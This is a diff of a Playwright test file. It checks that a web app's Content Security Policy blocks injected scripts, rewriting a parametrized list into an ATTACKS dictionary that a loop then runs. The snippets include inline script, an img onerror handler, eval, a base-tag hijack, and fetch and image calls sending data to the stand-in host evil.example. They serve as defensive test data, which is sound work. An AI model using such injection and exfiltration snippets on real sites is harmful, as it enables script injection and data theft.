@@ -215,31 +215,31 @@ def test_music_plays_and_covers_show_under_the_policy(site, admins_page: Page, u
     assert refused(admins_page) == set()
 
 
-@pytest.mark.parametrize(
-    ("attack", "directive"),
-    [
-        ("const s = document.createElement('script'); s.textContent = 'window.__ran = 1'; document.body.append(s)",
-         "script-src-elem inline"),
-        ("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.__ran = 1\">')",
-         "script-src-attr inline"),
-        ("const s = document.createElement('script'); s.src = 'data:text/javascript,window.__ran=1';"
-         "document.body.append(s)", "script-src-elem data"),
-        ("try { eval('window.__ran = 1') } catch {}", "script-src eval"),
-        ("new Image().src = 'http://evil.example/steal'", "img-src http://evil.example/steal"),
-        ("fetch('http://evil.example/steal').catch(() => 0)", "connect-src http://evil.example/steal"),
-        ("const b = document.createElement('base'); b.href = 'http://evil.example/'; document.head.append(b)",
-         "base-uri http://evil.example/"),
-        ("const o = document.createElement('object'); o.data = '/api/v1/health'; document.body.append(o)",
-         "object-src"),
-        ("const f = document.createElement('iframe'); f.src = 'http://evil.example/'; document.body.append(f)",
-         "frame-src http://evil.example"),
-    ],
-)  # fmt: skip
-def test_what_got_in_all_the_same_can_do_nothing(site, admins_page: Page, attack: str, directive: str) -> None:
+ATTACKS = {
+    "script-src-elem inline": "const s = document.createElement('script'); s.textContent = 'window.__ran = 1';"
+    "document.body.append(s)",
+    "script-src-attr inline": "document.body.insertAdjacentHTML('beforeend', "
+    "'<img src=x onerror=\"window.__ran = 1\">')",
+    "script-src-elem data": "const s = document.createElement('script'); s.src = 'data:text/javascript,window.__ran=1';"
+    "document.body.append(s)",
+    "script-src eval": "try { eval('window.__ran = 1') } catch {}",
+    "img-src http://evil.example/steal": "new Image().src = 'http://evil.example/steal'",
+    "connect-src http://evil.example/steal": "fetch('http://evil.example/steal').catch(() => 0)",
+    "base-uri http://evil.example/": "const b = document.createElement('base'); b.href = 'http://evil.example/';"
+    "document.head.append(b)",
+    "object-src ": "const o = document.createElement('object'); o.data = '/api/v1/health'; document.body.append(o)",
+    "frame-src http://evil.example": "const f = document.createElement('iframe'); f.src = 'http://evil.example/';"
+    "document.body.append(f)",
+}
+
+
+def test_what_got_in_all_the_same_can_do_nothing(site, admins_page: Page) -> None:
     admins_page.goto(site.url)
     expect(admins_page.get_by_test_id("stSidebar")).to_be_visible(timeout=60_000)
-    # By the page's own timer, because what playwright evaluates stands above the policy.
-    admins_page.evaluate(f"new Promise(done => setTimeout(() => {{ {attack}; done() }}))")
-    admins_page.wait_for_timeout(300)
-    assert any(line.startswith(directive) for line in refused(admins_page)), refused(admins_page)
+    for attack in ATTACKS.values():
+        # By the page's own timer, because what playwright evaluates stands above the policy.
+        admins_page.evaluate(f"new Promise(done => setTimeout(() => {{ {attack}; done() }}))")
+    admins_page.wait_for_timeout(500)
+    seen = refused(admins_page)
+    assert [rule for rule in ATTACKS if not any(line.startswith(rule) for line in seen)] == [], seen
     assert admins_page.evaluate("window.__ran") is None
